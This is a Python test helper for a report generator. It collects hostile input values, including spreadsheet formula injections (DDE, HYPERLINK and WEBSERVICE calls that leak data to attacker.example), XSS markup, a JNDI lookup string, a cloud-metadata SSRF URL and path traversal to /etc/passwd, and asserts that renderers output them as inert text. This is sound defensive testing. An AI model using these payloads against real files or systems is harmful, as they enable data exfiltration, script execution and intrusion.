"""Hostile values and pack checks shared by the hostile-input suite and the renderers' tests.

``HOSTILE_VALUES`` are strings a customer's spreadsheet or config can carry into any output:
formula prefixes, markup, URLs, paths, control characters, odd Unicode. A renderer test
puts them into an inventory or a config (``hostile_inventory_rows`` gives rows that resolve,
so every value reaches the outputs) and asserts that each comes out as inert text:

- XLSX: no cell whose ``data_type`` is ``"f"``; a value starting with ``= + - @`` (or a tab
  or carriage return before one) reads back as text, not as a formula or DDE link.
- PDF / HTML: the text appears as text (pypdf extract_text), no element or attribute it
  names exists in the rendered HTML, and no URL from it is fetched (a url_fetcher that
  fails the test on anything but the shipped template assets).
- File names: only ``slug.slugify`` output ever names a file.

``PACK_CHECKS`` are the checks a finished pack must pass; a renderer adds its own with
``@pack_check`` so that every hostile case and generated inventory runs it too.
"""

from __future__ import annotations

import json
import os
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",  # DDE
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",  # full-width equals sign
    '=WEBSERVICE("http://attacker.example/")',
    '=IMPORTXML("http://attacker.example","//a")',
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table><h1>injected</h1>",
    '"><svg onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<link rel=stylesheet href="http://attacker.example/x.css">',
    "<style>@import url(http://attacker.example/x.css);</style>",
    '<iframe src="file:///etc/passwd"></iframe>',
    "&lt;b&gt;escaped twice&lt;/b&gt; &amp; &#x3C;script&#x3E;",
    "{{ 7*7 }} {% raw %}{{ config }}{% endraw %}",
    "${jndi:ldap://attacker.example/a}",
    "<![CDATA[ ]]> <!-- comment --> <?xml-stylesheet href='http://attacker.example'?>",
]
URLS = [
    "http://attacker.example/track.png",
    "https://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "url(http://attacker.example/font.woff)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "\\\\attacker.example\\share\\x.png",
]
PATHS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "CON",
    "nul.txt",
    "COM1",
    "LPT9.csv",
    ".",
    "..",
    "~root",
    "a/b/c",
    "x" * 300,
]
CONTROL = [
    "tab\there",
    "new\nline",
    "carriage\rreturn",
    "bell\x07 and escape \x1b[31mred\x1b[0m",
    "nul\x00byte",
    "form\x0cfeed vertical\x0btab",
    "unit\x1fseparator\x1c",
    "delete\x7f and c1 \x85\x9b",
]
UNICODE = [
    "Zürich Façade Ærøskøbing",
    "東京リージョン",
    "مرحبا بالعالم",
    "\u202eevil\u202c reversed",  # right-to-left override
    "zero\u200bwidth\u200djoiner\ufeff",
    "e\u0301\u0301\u0301 combining",
    "ﬁ ligature Ⅻ roman ¹ superscript",
    "😀🔐🇬🇧 emoji",
    "\U0001d54a\U0001d55a math alphanumerics",
    "line\u2028separator\u2029paragraph",
    "\ufffd replacement",
    "Ω" * 5000,
]
HOSTILE_VALUES: list[str] = [*FORMULAS, *MARKUP, *URLS, *PATHS, *CONTROL, *UNICODE]
# Values a file can hold: XML 1.0 has no way to write most C0 controls (Excel writes
# _x0001_ escapes instead), and UTF-8 cannot hold lone surrogates.
XML_SAFE_VALUES = [
    v for v in HOSTILE_VALUES if not any(ord(c) < 32 and c not in "\t\n\r" for c in v)
]


def hostile_inventory_rows() -> list[list[str]]:
    """Inventory rows (header first) whose service resolves, each carrying hostile values in
    every other column, so they reach every output that shows inventory text."""
    header = ["Service", "Resource ID", "Account", "Region", "Environment", "Owner", "Notes"]
    rows = [header]
    services = ["Amazon S3", "Amazon EC2", "AWS Lambda", "Amazon DynamoDB"]
    for index, value in enumerate(XML_SAFE_VALUES):
        rows.append([services[index % len(services)], value, value, value, value, value, value])
    return rows


# ---------------------------------------------------------------- pack checks

PackCheck = Callable[[Path, dict[str, Any]], None]
PACK_CHECKS: list[PackCheck] = []


def pack_check(check: PackCheck) -> PackCheck:
    """Register a check run on every framework folder of every pack the suite builds."""
    PACK_CHECKS.append(check)
    return check


@pack_check
def matrix_json_is_complete(folder: Path, matrix: dict[str, Any]) -> None:
    on_disk = json.loads((folder / "matrix.json").read_text(encoding="utf-8"))
    assert on_disk == matrix
    assert on_disk["framework"]["id"] == folder.name
    assert on_disk["controls"], "a framework without controls"
    scope = on_disk["scope"]
    assert scope["unresolved_rows"] == len(on_disk["unresolved"])
    assert scope["inventory_rows"] >= scope["unresolved_rows"]


@pack_check
def artefacts_are_consistent(folder: Path, matrix: dict[str, Any]) -> None:
    """Document control ends with this version; declared providers' rows are counted; a
    Statement of Applicability covers every control once, as a control or a requirement."""
    document = matrix["document"]
    assert document["revisions"][-1]["version"] == document["version"]
    assert document["revisions"][-1]["document_id"] == matrix["document_id"]
    rows = sum(len(p["inventory_rows"]) for p in matrix["third_parties"])
    assert matrix["scope"]["third_party_rows"] == rows
    soa = matrix["artefacts"].get("statement_of_applicability")
    if soa:
        listed = [r["id"] for r in soa["controls"]] + [r["id"] for r in soa["requirements"]]
        assert sorted(listed) == sorted(c["id"] for c in matrix["controls"])


@pack_check
def json_files_show_no_invisible_characters(folder: Path, matrix: dict[str, Any]) -> None:
    """matrix.json and the OSCAL files write DEL, C1 controls and bidi overrides as JSON
    escapes (fifteenth pass: an OSCAL file held a raw U+202E that reordered its text)."""
    import re

    from reportgen.core.terminal import INVISIBLE_CONTROLS

    raw = re.compile(f"[{INVISIBLE_CONTROLS}]")
    for path in [*folder.glob("*.json"), folder.parent / "manifest.json"]:
        text = path.read_text(encoding="utf-8")
        assert not raw.search(text), f"{path.name} holds {raw.search(text)[0]!r} raw"


def check_pack(out: Path, frameworks: list[str]) -> dict[str, dict[str, Any]]:
    """Every framework folder exists and passes every registered check; nothing else in
    ``out`` but framework folders and pack-level files; returns the matrices read back."""
    matrices = {}
    for fid in frameworks:
        folder = out / fid
        matrix = json.loads((folder / "matrix.json").read_text(encoding="utf-8"))
        for check in PACK_CHECKS:
            check(folder, matrix)
        matrices[fid] = matrix
    for path in out.rglob("*"):
        assert path.resolve().is_relative_to(out.resolve()), path
    leftovers = [p.name for p in out.parent.iterdir() if p.name.startswith(".reportgen-")]
    assert not leftovers, leftovers
    return matrices


def examples(count: int) -> int:
    """Examples for a property test: as given in CI, ten times more with the deep profile."""
    return count * 10 if os.environ.get("HYPOTHESIS_PROFILE") == "deep" else count


# ---------------------------------------------------------------- figures for the report

TALLY: Counter[str] = Counter()
FIGURES: dict[str, str] = {}  # e.g. peak RSS per bomb file


def tally(kind: str, outcome: str) -> None:
    """Count outcomes (``pack``, ``clean error``) per kind of test, printed after the run."""
    TALLY[f"{kind}: {outcome}"] += 1
